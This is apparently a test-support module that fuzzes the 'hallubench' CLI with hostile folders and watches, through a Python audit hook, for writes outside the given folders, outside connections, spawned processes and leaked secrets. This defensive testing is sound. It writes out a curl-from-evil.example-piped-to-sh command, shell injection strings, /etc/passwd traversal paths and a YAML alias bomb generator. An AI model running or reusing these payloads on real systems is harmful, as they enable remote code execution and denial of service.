"""The process-watching audit (test_process_audit.py): a generated corpus of hostile folders and a child process that
runs `hallubench` commands in-process under a Python audit hook, logging what each command did.

The corpus starts from real folders made once per session (a run folder, a ranking, a built dataset, a release) and derives one variant per hostile class by rewriting their files generically (every file, every JSON string
or number), so a file or field added later is rewritten too. The commands come from walking the CLI's own parser:
every leaf (sub)command, its arguments filled from what the parser says they are (folders it reads, paths it writes,
choices, registries). Run as a script, this module is the child: `python audit_support.py CASES.json LOG.jsonl`.
"""
from __future__ import annotations

import argparse
import base64
import hashlib
import json
import os
import re
import shutil
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path

MARK = "auditmark"  # in every name, module, host and command that hostile data carries
SECRET = "MARKERSECRET-a1b2c3d4e5"  # in the outside file, credential URLs and the Hub token; never to be shown
TOKEN = "hf_" + SECRET.replace("-", "")  # the user's Hub token (a secret too: never uploaded or printed)
MANIFEST = ".hallubench-files.json"
UNFINISHED = ".hallubench-unfinished.json"
PERSONS_FILE = "thesis.txt"  # in every existing output folder: replacing the folder loses it
HOSTILE_COMMAND = f"hallubench run; curl http://evil.example/{MARK} | sh #"
# Flags that name code to run or wait for a person: the user's own choice, never data's, so never fuzzed.
UNFUZZED = {"include", "serve", "port", "help", "version", "token"}


# ---------------------------------------------------------------------------------------------------- the commands

def leaf_commands(parser: argparse.ArgumentParser, prefix: tuple[str, ...] = ()):
    """(command words, parser) for every command without subcommands of its own (`metrics install`, `verify`)."""
    subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
    if prefix and not subs:
        yield prefix, parser
    for action in subs:
        for name, sub in action.choices.items():
            yield from leaf_commands(sub, (*prefix, name))


def fuzzable(parser: argparse.ArgumentParser) -> list[argparse.Action]:
    """The options that take a value (flags without one are fuzzed by their presence)."""
    return [a for a in parser._actions if a.option_strings and a.dest not in UNFUZZED
            and not isinstance(a, (argparse._HelpAction, argparse._VersionAction))]


def writes(action: argparse.Action) -> bool:
    return action.dest in ("output_dir", "out", "modules_cache")


@dataclass
class Inputs:
    """What a case gives a command: folders by kind (run, ranking, dataset, release, config), the user's endpoints."""
    folders: dict[str, Path]
    openai_url: str
    hub_repo: str = "me/audit-results"


def registry_names() -> dict[str, list[str]]:
    """The registries a command's values come from: a task, model, judge or builder added later is tried too."""
    from hallubench.registry import BUILDERS, JUDGES, METRICS, MODELS, TASKS

    return {name: sorted(reg) for name, reg in
            (("tasks", TASKS), ("models", MODELS), ("judges", JUDGES), ("builders", BUILDERS), ("metrics", METRICS))}


def registry_of(action: argparse.Action) -> str | None:
    """The registry an argument takes its values from, read from its name (`--tasks`, `--judge`, `BENCHMARK`) or,
    for a plain `NAMES`, its help: so a registry-valued argument added later is fed every entry too."""
    word = action.dest.rstrip("s")
    if word == "name":
        word = next((w for w in ("task", "metric") if w in (action.help or "")[:40]), "")
    return {"task": "tasks", "model": "models", "judge": "judges", "metric": "metrics",
            "benchmark": "builders"}.get(word)


def base_argv(words: tuple[str, ...], parser: argparse.ArgumentParser, inputs: Inputs, out: Path,
              pick: int = 0, positional: dict[str, str] | None = None) -> list[str]:
    """A command line for `words` from its parser alone: each folder it reads gets the folder of that kind, each
    path it writes a fresh folder under `out`, each required value a valid one (a registry's entry `pick`-th in
    turn, or the value `positional` gives); then the few options that let the command go past its first check (a model to ask, a repo to push to)."""
    names = registry_names()
    argv = list(words)
    for action in parser._actions:
        kind = getattr(action, "reads_folders", None)
        flag = action.option_strings[:1]
        if not action.option_strings and action.dest in (positional or {}):
            argv.append(positional[action.dest])
        elif kind:
            folder = inputs.folders["run" if kind in ("run", "any") else kind]
            argv += flag + [str(folder)] + ([str(inputs.folders["run2"])] if action.nargs == "+" else [])
        elif writes(action):
            argv += flag + [str(out / action.dest)]
        elif action.dest == "data_dir":
            argv += flag + [str(inputs.folders["dataset"])]
        elif action.dest == "cache":
            argv += flag + [str(out / "judgments.sqlite")]
        elif action.dest == "source":
            argv += flag + [str(inputs.folders["release"])]
        elif action.required or (not action.option_strings and action.nargs not in ("?", "*")
                                  and not isinstance(action, argparse._SubParsersAction)):
            argv += flag + [_required_value(action, names, inputs, pick)]
    return argv + _going_further(words, parser, inputs)


def _required_value(action: argparse.Action, names: dict[str, list[str]], inputs: Inputs, pick: int) -> str:
    if action.choices:
        choices = list(action.choices)
        return str(choices[pick % len(choices)] if pick else ("avhallubench" if "avhallubench" in choices else choices[0]))
    if registry := registry_of(action):
        return names[registry][pick % len(names[registry])] if pick else TASK if registry == "tasks" else \
            names[registry][0]
    return inputs.hub_repo  # --repo and other required ids


def _going_further(words, parser, inputs: Inputs) -> list[str]:
    """Options that take a command past its first refusal, where it has them (named by dest, not by command)."""
    dests = {a.dest for a in parser._actions}
    extra = []
    if "model" in dests and "model_args" in dests and words[0] != "crosscheck":
        extra += ["--model", "openai", "--model-args",
                  f"pretrained=tiny,base_url={inputs.openai_url},api_key_env=AUDIT_KEY", "--tasks", TASK]
    if "limit" in dests and words[0] != "demo":
        extra += ["--limit", "2"]
    for flag in ("allow_mini_data", "allow_partial"):
        if flag in dests:
            extra.append("--" + flag.replace("_", "-"))
    if "namespace" in dests:
        extra += ["--namespace", "me"]
    if "push_to_hub" in dests:  # every uploader uploads: its bytes are checked for secrets
        extra += ["--push-to-hub", f"me/audit-{words[0]}"]
    return extra


def with_option(argv: list[str], parser: argparse.ArgumentParser, dest: str, value: str | None) -> list[str]:
    """`argv` with option `dest` set to `value` (its earlier value dropped); a flag without a value when None."""
    action = next(a for a in parser._actions if a.dest == dest)
    flags = set(action.option_strings)
    kept, skip = [], False
    for arg in argv:
        if skip:
            skip = False
        elif arg in flags:
            skip = action.nargs != 0
        else:
            kept.append(arg)
    return kept + [action.option_strings[0]] + ([] if value is None else [value])


# ---------------------------------------------------------------------------------------------------- the corpus

TASK = "avhallubench_visual"  # cross-checkable: its run folders rank, publish, verify and view


def make_bases(root: Path, openai_url: str) -> dict[str, Path]:
    """The real folders the corpus starts from, each made by hallubench itself: a release and its built dataset,
    two run folders of a stand-in OpenAI model (with samples to rank), their ranking; the sites `view` makes are
    outputs, which the hostile output folders stand for."""
    from hallubench.builders import build
    from hallubench.builders.mini import make_release
    from hallubench.cli.main import main

    release = make_release("avhallubench", root / "release")
    data = root / "datasets"
    build("avhallubench", release, data / "avhallubench")
    runs = []
    for name in ("run", "run2"):
        argv = ["run", "--model", "openai", "--model-args", f"pretrained={name},base_url={openai_url},api_key_env=AUDIT_KEY",
                "--tasks", TASK, "--limit", "2", "--num-samples", "2", "--num-frames", "2", "--data-dir", str(data),
                "--output-dir", str(root / name)]
        assert main(argv) == 0, argv
        runs.append(root / name)
    assert main(["rank", *map(str, runs), "--output-dir", str(root / "ranking"), "--cache",
                 str(root / "judgments.sqlite")]) == 0
    config = root / "config.yaml"
    config.write_text(f"tasks: {TASK}\nlimit: 2\nnum_samples: 2\n")
    return {"release": release, "dataset": data, "run": runs[0], "run2": runs[1], "ranking": root / "ranking",
            "config": config}


@dataclass
class Outside:
    """The folder outside every folder given: a secret file, a module to import, victims of writes through links."""
    root: Path
    secret: Path = field(init=False)

    def __post_init__(self):
        self.root.mkdir(parents=True, exist_ok=True)
        self.secret = self.root / "secret.txt"
        self.secret.write_text(f"{SECRET}\n")
        (self.root / f"{MARK}_evil.py").write_text(f"import os\nos.system('echo {MARK}')\n")

    def plant_run(self, base: Path) -> Path:
        """A run folder outside, its answers carrying the secret: what a record naming an outside folder reaches."""
        self.run = Path(shutil.copytree(base, self.root / "other_run", symlinks=True))
        samples = self.run / "samples.jsonl"
        samples.write_text(samples.read_text().replace('"outputs": ["', f'"outputs": ["{SECRET} '))
        return self.run

    def victim(self, name: str) -> Path:
        path = self.root / "victims" / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"{MARK} victim {name}: must never be written\n")
        return path


def files_of(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file() and not p.is_symlink())


def _rehash(folder: Path, changed: list[str]) -> None:
    """Keep the manifest in step with the edited files (as a careful attacker would), so the edit reaches the
    readers behind the manifest check: the corpus tests those, the manifest has its own variant."""
    path = folder / MANIFEST
    if not path.is_file():
        return
    manifest = json.loads(path.read_text())
    for name in changed:
        if name in manifest.get("files", {}):
            manifest["files"][name] = hashlib.sha256((folder / name).read_bytes()).hexdigest()
    path.write_text(json.dumps(manifest))


def _map_json(folder: Path, change) -> list[str]:
    """Apply `change(key, value) -> value` to every scalar of every JSON and JSON-lines file; the files changed."""
    changed = []
    for name in files_of(folder):
        path = folder / name
        if name == MANIFEST or path.suffix not in (".json", ".jsonl"):
            continue
        try:
            text = path.read_text()
            docs = [json.loads(line) for line in text.splitlines() if line.strip()] if path.suffix == ".jsonl" \
                else [json.loads(text)]
        except ValueError:
            continue
        new = [_walk(doc, change) for doc in docs]
        path.write_text("".join(json.dumps(d) + "\n" for d in new) if path.suffix == ".jsonl" else json.dumps(new[0]))
        changed.append(name)
    if _redigest(folder):
        changed.append("results.json")
    _rehash(folder, changed)
    return changed


def _redigest(folder: Path) -> bool:
    """results.json's digest of the records made again over the edited samples (as `_rehash` does for the
    manifest): the edit then reaches the readers past the digest check, which has its own test."""
    from hallubench.harness.digest import scored_digests

    try:
        results = json.loads((folder / "results.json").read_text())
        records = [json.loads(line) for line in (folder / "samples.jsonl").read_text().splitlines() if line.strip()]
        results["run"]["records_digest"] = scored_digests(records, {})
    except (OSError, ValueError, KeyError, TypeError):
        return False
    (folder / "results.json").write_text(json.dumps(results))
    return True


def _walk(value, change, key=""):
    if isinstance(value, dict):
        return {k: _walk(v, change, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_walk(v, change, key) for v in value]
    return change(key, value)


def _looks_like_path(text: str) -> bool:
    return "/" in text and "://" not in text or bool(re.fullmatch(r"[\w.-]+\.(json|jsonl|mp4|wav|jpg|png|parquet|csv)",
                                                                      text))


def _outside_paths(outside: Outside):
    def change(key, value):
        if isinstance(value, str) and _looks_like_path(value):  # a folder for a folder, a file for a file
            there = str(outside.run if Path(value).is_dir() else outside.secret)
            return there if len(value) % 2 else "../" * 8 + there.lstrip("/")  # absolute, or climbing out
        if key == "include":
            return [str(outside.root / f"{MARK}_evil.py"), f"{MARK}_evil"]
        return value
    return change


def _credential_urls(trap_url: str):
    def change(key, value):
        if isinstance(value, str) and ("://" in value or key in ("base_url", "url", "endpoint")):
            return trap_url
        return value
    return change


def _commands(key, value):
    if isinstance(value, str) and ("hallubench" in value or key in ("command", "reproduce", "hint")):
        return HOSTILE_COMMAND
    return value


def _numbers(key, value):
    if isinstance(value, bool) or not isinstance(value, (int, float)):
        return value
    return [float("nan"), float("inf"), 10 ** 400, -1e308][zlib.crc32(key.encode()) % 4]  # the same every run


def variants(kind: str, base: Path, outside: Outside, trap_url: str) -> dict[str, callable]:
    """name -> a function making that hostile copy of `base` at a given path (the path returned). Each file in turn
    becomes a link out; the manifest goes; JSON strings name outside paths, credential URLs and commands; numbers
    turn NaN, infinite and huge; a byte turns non-UTF-8; YAML turns into an alias bomb; an unfinished mark says a
    command."""
    def copy(at: Path) -> Path:
        return Path(shutil.copytree(base, at, symlinks=True))

    def link(name):
        def make(at):
            folder = copy(at)
            (folder / name).unlink()
            (folder / name).symlink_to(outside.secret)
            return folder
        return make

    def edit(change):
        def make(at):
            folder = copy(at)
            _map_json(folder, change)
            return folder
        return make

    def no_manifest(at):
        folder = copy(at)
        (folder / MANIFEST).unlink(missing_ok=True)
        return folder

    def non_utf8(at):
        folder = copy(at)
        changed = []
        for name in files_of(folder):
            path = folder / name
            if path.suffix in (".json", ".jsonl", ".md", ".yaml", ".yml", ".csv", ".txt", ".html") and name != MANIFEST:
                data = path.read_bytes()
                path.write_bytes(data.replace(b"e", b"\xe9\xff", 1))
                changed.append(name)
        _rehash(folder, changed)
        return folder

    def yaml_bomb(at):
        folder = copy(at)
        for name in files_of(folder):
            path = folder / name
            if path.suffix in (".yaml", ".yml"):
                path.write_text(bomb_yaml("limit"))
            elif path.suffix == ".md" and path.read_text(errors="replace").startswith("---"):
                path.write_text("---\n" + bomb_yaml("configs") + "---\n")
        return folder

    def command(at):
        folder = copy(at)
        (folder / UNFINISHED).write_text(json.dumps({"command": HOSTILE_COMMAND, "started": "2026-01-01T00:00:00+00:00",
                                                    "pid": 1, "stopped": HOSTILE_COMMAND}))
        _map_json(folder, _commands)
        return folder

    made = {f"link-out:{name}": link(name) for name in files_of(base)}
    if (base / MANIFEST).is_file():  # a folder hallubench marks whole; without its manifest it is not
        made["no-manifest"] = no_manifest
    made.update({"outside-paths": edit(_outside_paths(outside)),
                 "credential-urls": edit(_credential_urls(trap_url)), "commands": command,
                 "numbers": edit(_numbers), "non-utf8": non_utf8, "yaml-bomb": yaml_bomb})
    return made


def config_variants(base: Path, credential_url: str) -> dict[str, callable]:
    """name -> a function writing that --config at a given path: a config is the user's own file, so it may name
    any path or endpoint; what it may not do is crash, flood or leak (numbers, None, bytes, bombs, credentials)."""
    good = base.read_text()
    texts = {
        "yaml-bomb": bomb_yaml("limit").encode(),
        "non-utf8": good.encode() + b"# \xe9\xff\n",
        "numbers-nan": b"limit: .nan\nnum_frames: .inf\nseed: -.inf\n",
        "numbers-huge": ("limit: 1e309\nseed: 1" + "0" * 400 + "\nbatch_size: 1" + "0" * 30 + "\n").encode(),
        "none-values": b"model_args: {api_key_env: None, pretrained: null}\ntasks: null\nlimit: ~\n",
        "credential-urls": (good + f"model: openai\nmodel_args: {{pretrained: x, base_url: '{credential_url}', "
                                   "api_key_env: AUDIT_KEY}\n").encode(),
        "commands": f"tasks: '{HOSTILE_COMMAND}'\nmodel: '{HOSTILE_COMMAND}'\n".encode(),
        "not-a-mapping": b"- 1\n- 2\n",
    }

    def writer(data):
        def make(at: Path) -> Path:
            at.parent.mkdir(parents=True, exist_ok=True)
            at.write_bytes(data)
            return at
        return make
    return {name: writer(data) for name, data in texts.items()}


def hostile_output(at: Path, outside: Outside, names: list[str]) -> Path:
    """An existing output folder hallubench did not make: a person's file, and each name an output may take as a
    link to a file outside (a write through it lands outside; `--overwrite` must not delete the folder)."""
    at.mkdir(parents=True)
    (at / PERSONS_FILE).write_text("a person's work, not made by hallubench\n")
    for name in names:
        target = at / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if not target.exists() and not target.is_symlink():
            target.symlink_to(outside.victim(name.replace("/", "_")))
    return at


def bomb_yaml(key: str, levels: int = 8) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join(['*a%d' % (i - 1)] * 9)}]" for i in range(1, levels + 1)]
    return "\n".join(lines) + f"\n{key}: *a{levels}\n"


HOSTILE_VALUES = ["nan", "NaN", "inf", "-inf", "1e309", "-1", "0", "1" + "0" * 400, "0x10", "", " ", "\x00",
                  "../../../../etc/passwd", "/etc/passwd", f"{MARK}_evil", f"{MARK}_evil:Model",
                  f"pretrained=x,base_url=http://u:{SECRET}@127.0.0.1:1/v1", "a=nan,b=inf,c=1e309",
                  "temperature=nan,timeout=nan,retry_budget=nan", HOSTILE_COMMAND, "x" * 5000, "é\udcff",
                  "{{7*7}}", "$(id)", "`id`", "%s%n", "-", "--", "a,b,,c", "=", "key=", "=value"]


# ---------------------------------------------------------------------------------------------------- the events

def planted(outside: Outside, trap_port: int) -> dict[str, tuple[str, str]]:
    """Misdeeds planted in the audited process as if a command did them: name -> (code, what the finding says).
    Each must be found, so a hook that stops seeing a kind of event fails the test."""
    import_name = f"{MARK}_planted"
    return {
        "read outside": (f"open({str(outside.secret)!r}).read()", "read of a file outside"),
        "write outside": (f"open({str(outside.root / 'planted.txt')!r}, 'w').close()", "write outside"),
        "connect": ("import socket\ns = socket.socket()\ntry:\n    s.connect(('127.0.0.1', %d))\nfinally:\n"
                    "    s.close()" % trap_port, "connection to an endpoint the user did not give"),
        "process": (f"import subprocess\nsubprocess.run(['echo', {MARK!r}], stdout=subprocess.DEVNULL)",
                    "process started from data"),
        "import": (f"import importlib\ntry:\n    importlib.import_module({import_name!r})\nexcept ImportError:\n"
                   "    pass", "module imported because data named it"),
        "traceback": ("raise RuntimeError('planted')", "traceback shown to the user"),
        "secret shown": (f"print({SECRET!r})", "shown on the terminal"),
        "two-line error": ("import sys\nprint('hallubench x: error: one\\ntwo', file=sys.stderr)\nraise SystemExit(2)",
                           "error of 2 lines"),
    }


def secrets_in(data: bytes) -> list[str]:
    """The secrets `data` holds, directly or in the base64 the Hub's commit format carries file contents in."""
    found = [s for s in (SECRET, TOKEN) if s.encode() in data]
    for chunk in re.findall(rb'"content"\s*:\s*"([A-Za-z0-9+/=]{8,})"', data):
        try:
            decoded = base64.b64decode(chunk)
        except ValueError:
            continue
        found += [s for s in (SECRET, TOKEN) if s.encode() in decoded]
    return sorted(set(found))


def _media_scratch() -> str:
    """Where the media decoder keeps its RAM files (loaders/shared.py): hallubench's own scratch space."""
    from hallubench.loaders.shared import PREFIX, ROOT

    return str(ROOT / PREFIX)


MEDIA_SCRATCH = _media_scratch()


def under(path: str, roots: list[str]) -> bool:
    return any(path == root or path.startswith(root.rstrip("/") + "/") for root in roots)


def judge(events: list[list], allowed_roots: list[str], outside: str, ports: set[int],
          given: list[str] = ()) -> list[str]:
    """What the events of one command did that the audit refuses, each as one line naming the event; `given`: the
    paths the user named in flags, which the command may read and write wherever they are."""
    found = []
    for event in events:
        what, detail = event[0], event[1:]
        if what in ("write", "remove", "rename", "rmtree", "mkdir", "symlink", "truncate"):
            path = detail[0]
            making_given = what == "mkdir" and any(under(named, [path]) for named in given)  # its parents, made
            if not (under(path, [*allowed_roots, *given]) or making_given or "/__pycache__/" in path
                    or path in ("/dev/null", "/dev/tty") or path.startswith(MEDIA_SCRATCH)):
                found.append(f"{what} outside the given folders and caches: {path}")
        elif what == "read" and under(detail[0], [outside]) and not under(detail[0], given):
            found.append(f"read of a file outside the given folders: {detail[0]}")
        elif what == "connect":
            host, port = detail
            if host not in ("127.0.0.1", "localhost", "::1") or port not in ports:
                found.append(f"connection to an endpoint the user did not give: {host}:{port}")
        elif what == "resolve":
            found.append(f"name lookup of a host the user did not give: {detail[0]}")
        elif what == "process" and (MARK in detail[0] or "curl" in detail[0]):
            found.append(f"process started from data: {detail[0][:200]}")
        elif what == "import" and MARK in detail[0]:
            found.append(f"module imported because data named it: {detail[0]}")
        elif what == "compile":
            found.append(f"code compiled from data: {detail[0][:200]}")
        elif what == "unpickle" and (MARK in detail[0] or detail[0].split(".")[0] in
                                     ("os", "posix", "subprocess", "builtins", "sys", "shutil", "importlib")):
            found.append(f"unpickling reached {detail[0]}.{detail[1]}")
    return found


def error_problems(code, stdout: str, stderr: str) -> list[str]:
    """A traceback anywhere, a secret shown, or a failure whose error is not one line (or is a flood)."""
    found = []
    if "Traceback (most recent call last)" in stdout + stderr:
        tail = (stdout + stderr).strip().splitlines()[-1][:300]
        found.append(f"traceback shown to the user, ending: {tail}")
    for secret in secrets_in((stdout + stderr).encode()):
        found.append(f"secret {secret[:12]}... shown on the terminal")
    if code not in (0, None) and not found:
        lines = stderr.strip().splitlines()
        first = next((i for i, line in enumerate(lines) if re.match(r"hallubench[\w ]*: (error: )?", line)), None)
        if first is None:
            found.append(f"exit {code} without a `hallubench ...: error: ...` line; stderr ends: "
                         f"{(lines or [''])[-1][:300]!r}")
        elif len(lines) - first > 1:
            found.append(f"error of {len(lines) - first} lines (one expected): {lines[first][:200]!r} / "
                         f"{lines[first + 1][:200]!r}")
        elif len(lines[first]) > 3000:
            found.append(f"error line of {len(lines[first])} characters: {lines[first][:200]!r}...")
    return found


# ---------------------------------------------------------------------------------------------------- the child

def _child(setup_path: str, cases_path: str, log_path: str) -> None:
    """Make the base folders SETUP.json asks for (unless "-") and log their paths; once CASES.json exists, run every
    case in this process under an audit hook, logging each one's events to LOG.jsonl. An extra case (`extra`) is
    skipped once the deadline has passed (the plan's, or min_extra seconds after the first extra case); every case has its own time limit (SIGALRM)."""
    import signal
    import threading
    import time
    import traceback

    if setup_path != "-":
        setup = json.loads(Path(setup_path).read_text())
        bases = make_bases(Path(setup["root"]), setup["openai_url"])
        with open(log_path, "a") as log:
            log.write(json.dumps({"bases": {k: str(v) for k, v in bases.items()}}) + "\n")
    given_up = time.monotonic() + 900  # the test that started this child is gone
    while not Path(cases_path).exists():
        if time.monotonic() > given_up:
            return
        time.sleep(0.05)
    plan = json.loads(Path(cases_path).read_text())
    outside, deadline = plan["outside"], None
    state = {"case": None, "events": None}
    busy = threading.local()

    def real(path, follow=True):
        """Where the path lands: through every link when the call follows the last one (open), else the link's own
        place (rename, remove and mkdir act on a link, never on what it points to)."""
        try:
            path = os.path.abspath(os.fsdecode(path))
            if follow:
                return os.path.realpath(path)
            return os.path.join(os.path.realpath(os.path.dirname(path)), os.path.basename(path))
        except (TypeError, ValueError):
            return str(path)

    def record(*event):
        state["events"].append(list(event))

    def hook(event, args):
        if state["case"] is None or getattr(busy, "on", False):
            return
        busy.on = True
        try:
            _see(event, args)
        finally:
            busy.on = False

    def _see(event, args):
        if event == "open":
            path, mode, flags = (list(args) + [None, None])[:3]
            if isinstance(path, int):
                return
            writing = (flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND)) if isinstance(
                flags, int) else any(c in (mode or "") for c in "wax+")
            no_follow = isinstance(flags, int) and (flags & os.O_NOFOLLOW or flags & os.O_CREAT and flags & os.O_EXCL)
            target = real(path, follow=not no_follow)
            if writing:
                record("write", target)
            elif target.startswith(outside):
                record("read", target)
        elif event in ("os.remove", "os.rmdir", "shutil.rmtree", "os.mkdir", "os.truncate"):
            if not isinstance(args[0], int):
                record({"os.remove": "remove", "os.rmdir": "remove", "shutil.rmtree": "rmtree", "os.mkdir": "mkdir",
                        "os.truncate": "truncate"}[event], real(args[0], follow=event == "os.truncate"))
        elif event in ("os.rename", "os.link", "os.symlink"):
            record("rename" if event == "os.rename" else "symlink", real(args[1], follow=False))
            if event == "os.rename":
                record("rename", real(args[0], follow=False))
        elif event == "socket.connect":
            address = args[1]
            if isinstance(address, tuple):
                record("connect", str(address[0]), int(address[1]))
        elif event == "socket.getaddrinfo":
            host = args[0].decode() if isinstance(args[0], bytes) else str(args[0])
            if host not in ("127.0.0.1", "localhost", "::1", "None", "0.0.0.0"):
                record("resolve", host)
        elif event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "pty.spawn"):
            record("process", " ".join(map(str, args if event == "os.system" else args[1] or args[:1])))
        elif event == "import":
            record("import", str(args[0]))
        elif event == "compile" and MARK in str(args[0])[:100000]:
            record("compile", str(args[0]))
        elif event == "pickle.find_class":
            record("unpickle", str(args[0]), str(args[1]))

    class ImportRecorder:  # importlib.import_module raises no "import" event; every import asks the finders
        @staticmethod
        def find_spec(name, path=None, target=None):
            if state["case"] is not None:
                state["events"].append(["import", name])
            return None

    class CaseTimeout(BaseException):
        pass

    def alarm(*_):
        raise CaseTimeout()

    sys.addaudithook(hook)
    sys.meta_path.insert(0, ImportRecorder)
    signal.signal(signal.SIGALRM, alarm)
    from hallubench.cli.main import main

    with open(log_path, "a") as log:
        for case in plan["cases"]:
            if case.get("extra"):  # the draws run until the deadline, and at least min_extra seconds
                deadline = deadline or max(plan["deadline"], time.time() + plan["min_extra"])
                if time.time() > deadline:
                    break
            log.write(json.dumps({"start": case["id"]}) + "\n")
            log.flush()
            if plan.get("hub"):  # a marker request: the Hub's calls after it are this case's
                _mark(plan["hub"], case["id"])
            os.makedirs(case["cwd"], exist_ok=True)
            os.chdir(case["cwd"])
            captured = {n: open(Path(case["cwd"]) / f".audit-{n}", "w+b") for n in ("stdout", "stderr")}
            sys.stdout.flush(), sys.stderr.flush()
            saved = {n: os.dup(fd) for n, fd in (("stdout", 1), ("stderr", 2))}
            os.dup2(captured["stdout"].fileno(), 1), os.dup2(captured["stderr"].fileno(), 2)
            result = {"id": case["id"], "code": None, "timed_out": False, "escaped": None}
            began = time.monotonic()
            state["events"], state["case"] = [], case["id"]
            signal.setitimer(signal.ITIMER_REAL, case["limit"])
            try:
                result["code"] = exec(case["plant"], {}) if "plant" in case else main(case["argv"])
            except SystemExit as exit_:
                result["code"] = exit_.code if isinstance(exit_.code, int) else (0 if exit_.code is None else 1)
            except CaseTimeout:
                result["timed_out"] = True
            except BaseException:  # what escaped main: the user would have seen this traceback
                result["escaped"] = traceback.format_exc()[-3000:]
                print(result["escaped"], file=sys.stderr)
            finally:
                signal.setitimer(signal.ITIMER_REAL, 0)
                state["case"] = None
            sys.stdout.flush(), sys.stderr.flush()
            for n, fd in (("stdout", 1), ("stderr", 2)):
                os.dup2(saved[n], fd)
                os.close(saved[n])
                captured[n].seek(0)
                result[n] = captured[n].read().decode("utf-8", "replace")[-20000:]
                captured[n].close()
            result["events"], result["seconds"] = state["events"], round(time.monotonic() - began, 2)
            log.write(json.dumps(result) + "\n")
            log.flush()


def _mark(hub: str, case_id: str) -> None:
    from urllib.request import urlopen
    from urllib.error import HTTPError

    try:
        urlopen(f"{hub}/audit-case/{case_id}", timeout=10).close()
    except HTTPError:
        pass


if __name__ == "__main__":
    _child(*sys.argv[1:4])
